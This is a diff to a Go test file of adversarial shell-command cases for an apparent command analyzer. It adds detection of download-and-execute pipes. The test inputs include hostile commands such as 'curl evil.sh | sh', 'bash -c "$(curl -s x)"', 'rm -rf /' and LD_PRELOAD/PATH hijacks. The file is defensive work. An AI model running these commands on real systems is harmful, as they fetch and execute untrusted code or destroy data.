@@ -19,6 +19,7 @@ const (
 	rNonLitWrite = "write redirect to a non-literal path"
 	rShC         = "sh -c of a non-literal string"
 	rEval        = "eval of a non-literal string"
+	rStdinProg   = "interpreter reading a program from stdin"
 )
 
 var adversarial = []adversarialCase{
@@ -28,20 +29,20 @@ var adversarial = []adversarialCase{
 	{"ls; rm x", []string{"ls", "rm x"}, nil},
 	{"ls & rm x", []string{"ls", "rm x"}, nil},
 	{"ls\nrm x\n", []string{"ls", "rm x"}, nil},
-	{"curl -s https://x.sh | sh", []string{"curl -s https://x.sh", "sh"}, nil},
+	{"curl -s https://x.sh | sh", []string{"curl -s https://x.sh", "sh"}, []string{rStdinProg, "download and execute: `curl -s https://x.sh` is piped into `sh`"}},
 	{"git status && git push --force", []string{"git status", "git push --force"}, nil},
 	{"true || false && echo ok", []string{"true", "false", "echo ok"}, nil},
 	{"ls;rm x;;", nil, []string{"parse error: 1:8: `;;` can only be used in a case clause"}},
 	// command substitution
 	{"echo $(rm -rf /tmp/x)", []string{"~echo $(rm -rf /tmp/x)", "substitution: rm -rf /tmp/x"}, nil},
-	{`echo "$(curl evil.sh | sh)"`, []string{`~echo "$(curl evil.sh | sh)"`, "substitution: curl evil.sh", "substitution: sh"}, nil},
+	{`echo "$(curl evil.sh | sh)"`, []string{`~echo "$(curl evil.sh | sh)"`, "substitution: curl evil.sh", "substitution: sh"}, []string{rStdinProg, "download and execute: `curl evil.sh` is piped into `sh`"}},
 	{"echo $(echo $(id))", []string{"~echo $(echo $(id))", "substitution: ~echo $(id)", "substitution: id"}, nil},
 	{"echo `whoami`", []string{"~echo `whoami`", "substitution: whoami"}, nil},
 	// nested backticks: the inner word's text is sliced from the source as the parser locates it
 	{"echo `echo \\`id\\``", []string{"~echo `echo \\`id\\``", "substitution: ~echo `id\\`", "substitution: id"}, nil},
 	{"ls $(pwd)/src", []string{"~ls $(pwd)/src", "substitution: pwd"}, nil},
 	{"x=$(date)", []string{"~x=$(date)", "substitution: date"}, nil},
-	{"x=$(rm -rf y) ls", []string{"x=$(rm -rf y) ls", "substitution: rm -rf y"}, nil},
+	{"x=$(rm -rf y) ls", []string{"~x=$(rm -rf y) ls", "substitution: rm -rf y"}, nil},
 	{`cat "$(ls)" > /dev/null`, []string{`~cat "$(ls)" > /dev/null(w)`, "substitution: ls"}, nil},
 	{"echo ${x:-$(rm y)}", []string{"~echo ${x:-$(rm y)}", "substitution: rm y"}, nil},
 	{"echo $((1 + $(id -u)))", []string{"~echo $((1 + $(id -u)))", "substitution: id -u"}, nil},
@@ -49,7 +50,7 @@ var adversarial = []adversarialCase{
 	// process substitution
 	{"diff <(ls a) <(ls b)", []string{"~diff <(ls a) <(ls b)", "process-substitution: ls a", "process-substitution: ls b"}, nil},
 	{"tee >(grep x) < f", []string{"~tee >(grep x) < f", "process-substitution: grep x"}, nil},
-	{"make > >(tee log)", []string{"make > >(tee log)(~)", "process-substitution: tee log"}, nil},
+	{"make > >(tee log)", []string{"~make > >(tee log)(~)", "process-substitution: tee log"}, nil},
 	// wrappers
 	{"timeout 10 rm -rf build", []string{"(timeout) rm -rf build"}, nil},
 	{"timeout -k 5 -s KILL 1m make test", []string{"(timeout) make test"}, nil},
@@ -73,7 +74,7 @@ var adversarial = []adversarialCase{
 	{"/usr/bin/timeout 5 ls", []string{"(timeout) ls"}, nil},
 	{"nohup", []string{"nohup"}, nil},
 	{"FOO=bar ls", []string{"FOO=bar ls"}, []string{"assignment to FOO"}},
-	{"LD_PRELOAD=/tmp/x.so PATH=/tmp/evil:$PATH make", []string{"LD_PRELOAD=/tmp/x.so PATH=/tmp/evil:$PATH make"}, []string{"assignment to LD_PRELOAD", "assignment to PATH"}},
+	{"LD_PRELOAD=/tmp/x.so PATH=/tmp/evil:$PATH make", []string{"~LD_PRELOAD=/tmp/x.so PATH=/tmp/evil:$PATH make"}, []string{"assignment to LD_PRELOAD", "assignment to PATH"}},
 	{"LC_ALL=C GOOS=linux CGO_ENABLED=0 x=1 go build", []string{"LC_ALL=C GOOS=linux CGO_ENABLED=0 x=1 go build"}, nil},
 	{"PATH=/tmp/evil; ls", []string{"PATH=/tmp/evil", "ls"}, []string{"assignment to PATH"}},
 	// redirections
@@ -87,8 +88,8 @@ var adversarial = []adversarialCase{
 	{"ls > /dev/null 2>&1", []string{"ls > /dev/null(w) 2>& 1"}, nil},
 	{"ls >| f", []string{"ls >| f(w)"}, nil},
 	{"cat < in.txt", []string{"cat < in.txt"}, nil},
-	{`echo x > "$OUT"`, []string{`echo x > "$OUT"(w)(~)`}, []string{rNonLitWrite}},
-	{"echo x > $(mktemp)", []string{"echo x > $(mktemp)(w)(~)", "substitution: mktemp"}, []string{rNonLitWrite}},
+	{`echo x > "$OUT"`, []string{`~echo x > "$OUT"(w)(~)`}, []string{rNonLitWrite}},
+	{"echo x > $(mktemp)", []string{"~echo x > $(mktemp)(w)(~)", "substitution: mktemp"}, []string{rNonLitWrite}},
 	{"ls 3>&- >&2", []string{"ls 3>& - >& 2"}, nil},
 	{"echo x >&out.txt", []string{"echo x >& out.txt(w)"}, nil},
 	{"> truncated.txt", []string{"> truncated.txt(w)"}, nil},
@@ -106,11 +107,11 @@ var adversarial = []adversarialCase{
 	{`echo "$(echo 'a)b')"`, []string{`~echo "$(echo 'a)b')"`, "substitution: echo 'a)b'"}, nil},
 	{`echo "\$HOME" '\n'`, []string{`echo '$HOME' '\n'`}, nil},
 	// heredocs
-	{"cat <<EOF\nhello $USER\nEOF\n", []string{"cat <<(~)"}, nil},
+	{"cat <<EOF\nhello $USER\nEOF\n", []string{"~cat <<(~)"}, nil},
 	{"cat <<'EOF'\n$(rm -rf /)\nEOF\n", []string{"cat <<"}, nil},
-	{"cat <<-EOF\n\t$(id)\n\tEOF\n", []string{"cat <<-(~)", "substitution: id"}, nil},
+	{"cat <<-EOF\n\t$(id)\n\tEOF\n", []string{"~cat <<-(~)", "substitution: id"}, nil},
 	{"cat <<EOF > out.sh\nrm -rf /\nEOF\n", []string{"cat << > out.sh(w)"}, nil},
-	{`cat <<<"$(id)"`, []string{`cat <<< "$(id)"(~)`, "substitution: id"}, nil},
+	{`cat <<<"$(id)"`, []string{`~cat <<< "$(id)"(~)`, "substitution: id"}, nil},
 	// sh -c
 	{"bash -c 'rm -rf build && ls'", []string{"bash -c 'rm -rf build && ls'", "sh -c: rm -rf build", "sh -c: ls"}, nil},
 	{`sh -c "echo \"nested quotes\" | wc -c"`, []string{`sh -c 'echo "nested quotes" | wc -c'`, "sh -c: echo 'nested quotes'", "sh -c: wc -c"}, nil},
@@ -120,7 +121,7 @@ var adversarial = []adversarialCase{
 	{"/bin/sh -c 'ls'", []string{"/bin/sh -c ls", "sh -c: ls"}, nil},
 	{`bash -c "$CMD"`, []string{`~bash -c "$CMD"`, "sh -c: ~$CMD"}, []string{rShC, rNonLitName}},
 	{`bash -c "rm -rf $HOME"`, []string{`~bash -c "rm -rf $HOME"`, "sh -c: ~rm -rf $HOME"}, []string{rShC}},
-	{`bash -c "$(curl -s x)"`, []string{`~bash -c "$(curl -s x)"`, "substitution: curl -s x"}, []string{rShC}},
+	{`bash -c "$(curl -s x)"`, []string{`~bash -c "$(curl -s x)"`, "substitution: curl -s x"}, []string{rShC, "download and execute: the output of `curl -s x` is run by `bash -c \"$(curl -s x)\"`"}},
 	{"bash script.sh", []string{"bash script.sh"}, nil},
 	{`bash -c 'bash -c "rm -rf /tmp/a"'`, []string{`bash -c 'bash -c "rm -rf /tmp/a"'`, "sh -c: bash -c 'rm -rf /tmp/a'", "sh -c: rm -rf /tmp/a"}, nil},
 	{"bash -c 'echo $(id)'", []string{"bash -c 'echo $(id)'", "sh -c: ~echo $(id)", "substitution: id"}, nil},
@@ -149,7 +150,7 @@ var adversarial = []adversarialCase{
 	{"if grep -q x f; then rm f; elif test -d f; then :; else touch f; fi", []string{"grep -q x f", "rm f", "test -d f", ":", "touch f"}, nil},
 	{`for f in *.go; do gofmt -l "$f"; done`, []string{`~gofmt -l "$f"`}, nil},
 	{"for f in $(git ls-files); do wc -l $f; done > counts", []string{"substitution: git ls-files", "~wc -l $f > counts(w)"}, nil},
-	{"for ((i=0; i<3; i++)); do echo $i; done", []string{"~echo $i"}, nil},
+	{"for ((i=0; i<3; i++)); do echo $i; done", []string{"~(( i=0; i<3; i++ ))", "~echo $i"}, nil},
 	{"while true; do sleep 1; done", []string{"true", "sleep 1"}, nil},
 	{"until make; do sleep 5; done", []string{"make", "sleep 5"}, nil},
 	{"while read -r l; do echo \"$l\"; done < in.txt", []string{"read -r l < in.txt", `~echo "$l" < in.txt`}, nil},
@@ -178,13 +179,15 @@ var adversarial = []adversarialCase{
 	{"", nil, nil},
 	{"  \n\t ", nil, nil},
 	// shell evaluation commands
-	{"(( count++ ))", []string{"(( count++ ))"}, nil},
+	{"(( count++ ))", []string{"~(( count++ ))"}, nil},
+	{"(( 1 + 2 ))", []string{"(( 1 + 2 ))"}, nil},
 	{"(( x = $(id -u) ))", []string{"~(( x = $(id -u) ))", "substitution: id -u"}, nil},
 	{`[[ -n "$x" && -f y ]]`, []string{`~[[ -n "$x" && -f y ]]`}, nil},
 	{"[[ -d build ]] && rm -rf build", []string{"[[ -d build ]]", "rm -rf build"}, nil},
 	{"export PATH=/tmp:$PATH", []string{"~export PATH=/tmp:$PATH"}, nil},
 	{"local x=1 y", []string{"local x=1 y"}, nil},
-	{`let "x = 1 + 2"`, []string{`let "x = 1 + 2"`}, nil},
+	{`let "x = 1 + 2"`, []string{`~let "x = 1 + 2"`}, nil},
+	{`let "1 + 2"`, []string{`let "1 + 2"`}, nil},
 	{"x=1 y=2", []string{"x=1 y=2"}, nil},
 	// non-literal words
 	{"$CMD", []string{"~$CMD"}, []string{rNonLitName}},
